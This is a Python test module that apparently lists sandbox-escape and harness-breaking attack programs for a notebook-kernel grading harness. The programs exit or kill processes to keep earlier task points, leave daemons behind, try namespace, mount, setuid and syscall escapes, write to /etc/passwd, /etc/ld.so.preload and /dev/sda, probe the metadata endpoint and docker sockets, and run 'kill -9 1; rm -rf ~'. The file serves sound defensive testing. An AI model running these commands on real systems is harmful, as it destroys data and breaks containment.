"""Attacks on processes, the kernel's life, and the walls of the sandbox."""

# ruff: noqa: E501  attacks are programs inside strings: a line that is broken is another program
from __future__ import annotations

from attacks import TRY, Attack, on_block, trying

SYSCALLS = """
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *arguments):
    ctypes.set_errno(0)
    return True if getattr(libc, name)(*arguments) == 0 else None
"""
BEFORE = ("task1_block_function", "task1_block_gradients")


def ending(name: str, code: str, **more: object) -> Attack:
    """The process ends in task 2: task 1 keeps its points, and task 3 runs in a fresh one."""
    cells = {"task2_scale": f"{TRY}\n{code}"}
    return Attack(name, cells, earns=BEFORE, **more)  # type: ignore[arg-type]


PROCESSES = [
    ending("exits", "os._exit(0)", says="exit code 0"),
    ending("kills_itself", "os.kill(os.getpid(), 9)", says="it was killed, in two runs out of two"),
    ending("kills_everyone", "os.kill(-1, 9)\nos.kill(os.getpid(), 9)"),
    ending("becomes_another_program", "os.execv('/bin/sleep', ['sleep', '1000'])", within_s=30),
    ending("crashes", "ctypes.string_at(1)", says="segmentation fault"),
    ending("stops_itself", "os.kill(os.getpid(), 19)", within_s=30),
    ending("closes_all_descriptors", "os.closerange(3, 4096)", within_s=60),
    ending("aborts", "os.abort()", says="signal 6"),
    trying("quits_politely", "import IPython\nget_ipython().ask_exit()", says="take it out"),
    trying("exits_in_a_cell", "exit()\nquit()", says="take it out"),
    trying("shuts_its_kernel_down", "get_ipython().kernel.do_shutdown(False)", says="take it out"),
    trying("stops_its_loop", "get_ipython().kernel.io_loop.stop()", says="it ended itself"),
    trying(
        "exits_a_moment_later", "import threading\nthreading.Timer(0.01, os._exit, [3]).start()", says="exit code 3"
    ),
    trying("is_killed_a_moment_later", "import threading\nthreading.Timer(0.1, os.kill, [os.getpid(), 9]).start()"),
    trying(
        "raises_system_exit",
        "def later(*a): raise SystemExit(0)\nget_ipython().events.register('post_run_cell', later)",
    ),
    trying(
        "signals_other_processes",
        "for pid in {1, 2, 3, os.getppid()} - {os.getpid()}:\n"
        "    for number in (15, 19, 2, 9):\n        try: os.kill(pid, number)\n        except OSError: pass",
        earns=(),
        says="",
    ),
    trying(
        "ignores_every_signal",
        "import signal\nfor number in range(1, 65):\n    try: signal.signal(number, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass",
    ),
    Attack(
        "ignores_the_interrupt",
        on_block("import time\nwhile True:\n    try: time.sleep(1)\n    except BaseException: pass"),
        earns=(),
        says="time: 4 s for one cell exceeded",
        within_s=30,
    ),
    Attack("loops_for_ever", on_block("while True: pass"), says="time: ", within_s=30),
    Attack(
        "loops_in_c_for_ever",
        on_block("import re\nre.match(r'(a+)+b', 'a' * 60)"),
        earns=(),
        within_s=30,
    ),
    trying(
        "leaves_a_daemon",
        """
import time
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True: time.sleep(0.01)
        os._exit(0)
""",
    ),
    trying(
        "leaves_programs_running",
        "import subprocess\nfor _ in range(5):\n"
        "    subprocess.Popen(['setsid', 'nohup', 'sh', '-c', 'while true; do sleep 0.05; done'])",
    ),
    trying(
        "leaves_threads",
        "import threading, time\nfor _ in range(50):\n    threading.Thread(target=time.sleep, args=(1000,)).start()",
    ),
    trying(
        "leaves_handlers_for_the_end",
        "import atexit, time, signal\natexit.register(time.sleep, 1000)\n"
        "signal.signal(signal.SIGTERM, lambda *a: time.sleep(1000))\nos.register_at_fork(before=lambda: None)",
    ),
    trying(
        "kills_its_heartbeat",
        """
import threading
for thread in threading.enumerate():
    if thread is not threading.main_thread() and "Heartbeat" in type(thread).__name__:
        ctypes.pythonapi.PyThreadState_SetAsyncExc(ctypes.c_ulong(thread.ident), ctypes.py_object(SystemExit))
""",
    ),
    trying(
        "kills_its_iopub_thread",
        """
import threading
for thread in threading.enumerate():
    if thread is not threading.main_thread():
        ctypes.pythonapi.PyThreadState_SetAsyncExc(ctypes.c_ulong(thread.ident), ctypes.py_object(SystemExit))
""",
        earns=(),
        within_s=60,
    ),
    trying(
        "closes_the_output_socket",
        "kernel = get_ipython().kernel\nkernel.iopub_thread.socket.close()",
        earns=(),
        within_s=60,
    ),
    trying("recurses_for_ever", "sys.setrecursionlimit(10**9)\ndef f(): return f()\nf()", earns=(), prints="", says=""),
    trying(
        "deletes_its_working_folder", "import shutil\nshutil.rmtree(os.getcwd(), ignore_errors=True)\nos.chdir('/tmp')"
    ),
    trying("changes_folder_and_root", "os.chdir('/')\nattempt('chroot', lambda: os.chroot('/tmp') or True)"),
    trying(
        "runs_shell_cells",
        "!echo shell > shell.txt\nget_ipython().run_cell_magic('bash', '', 'kill -9 1; rm -rf ~ 2>/dev/null; true')\n%cd -q /tmp",
    ),
    trying(
        "makes_namespaces_and_mounts",
        SYSCALLS
        + """
for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x08000000, 0x04000000, 0x02000000):
    pid = os.fork()
    if pid == 0:
        os._exit(7 if libc.unshare(flag) == 0 else 0)
    attempt(f"unshare {flag:#x}", lambda: True if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 7 else None)
attempt("mount tmpfs", lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, None))
attempt("bind mount", lambda: call("mount", b"/usr", b"/tmp", None, 4096, None))
attempt("remount", lambda: call("mount", None, b"/usr", None, 32 | 4096, None))
attempt("umount", lambda: call("umount2", b"/proc", 2))
attempt("pivot_root", lambda: True if libc.syscall(155, b"/tmp", b"/tmp") == 0 else None)
attempt("setns", lambda: [os.open("/proc/1/ns/mnt", os.O_RDONLY)] and call("setns", os.open("/proc/1/ns/mnt",
os.O_RDONLY), 0)) attempt("chroot", lambda: call("chroot", b"/tmp"))
""",
    ),
    trying(
        "takes_more_rights",
        SYSCALLS
        + """
import stat, subprocess
attempt("setuid", lambda: os.setuid(0) or True)
attempt("setgroups", lambda: os.setgroups([0, 27]) or True)
attempt("device node", lambda: os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0)) or True)
attempt("bpf", lambda: True if libc.syscall(321, 0, ctypes.create_string_buffer(128), 128) >= 0 else None)
attempt("init_module", lambda: True if libc.syscall(175, b"", 0, b"") == 0 else None)
attempt("kexec", lambda: True if libc.syscall(246, 0, 0, 0, 0) == 0 else None)
attempt("reboot", lambda: True if libc.syscall(169, 0, 0, 0, 0) == 0 else None)
attempt("hostname", lambda: call("sethostname", b"owned", 5))
attempt("clock", lambda: __import__("time").clock_settime(0, 0) or True)
attempt("nice", lambda: os.nice(-10))
attempt("limits", lambda: [__import__("resource").setrlimit(r, (2**40, 2**40)) for r in (2, 1)])
attempt("sudo", lambda: subprocess.run(["su", "-c", "true"], check=True, capture_output=True))
""",
    ),
    trying(
        "writes_to_the_system",
        """
for path in ("/usr/bin/env", "/etc/passwd", "/etc/ld.so.preload", "/opt/springfield/agent.py", torch.__file__, "/dev/sda",
             "/bin/sh", sys.executable, "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
             "/proc/1/oom_score_adj", "/proc/sys/kernel/hostname", "/kaggle/x", "/opt/x", "/work/x"):
    def write():
        with open(path, "ab"):
            return True
    if path != "/etc/passwd" or os.path.exists("/etc"):
        attempt(path, write)
""",
    ),
    trying(
        "uses_the_network",
        """
import socket, subprocess
def connect(family, kind, address):
    with socket.socket(family, kind) as made:
        made.settimeout(0.3)
        made.connect(address)
        made.send(b"x")
        return made.recv(1) if kind == socket.SOCK_DGRAM else True
for address in (("192.0.2.1", 80), ("127.0.0.1", 22), ("127.0.0.1", 8888), ("169.254.169.254", 80), ("10.0.0.1", 443)):
    attempt(f"tcp {address}", lambda: connect(socket.AF_INET, socket.SOCK_STREAM, address))
    attempt(f"udp {address}", lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, address))
attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
attempt("raw", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("interfaces", lambda: [n for _, n in socket.if_nameindex() if n != "lo"] or None)
for name in ("/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private", "/tmp/.X11-unix/X0", "/run/dbus/system_bus_socket",
             "\\0/tmp/.X11-unix/X0", "\\0springfield-abstract"):
    attempt("socket " + repr(name), lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, name))
""",
    ),
]
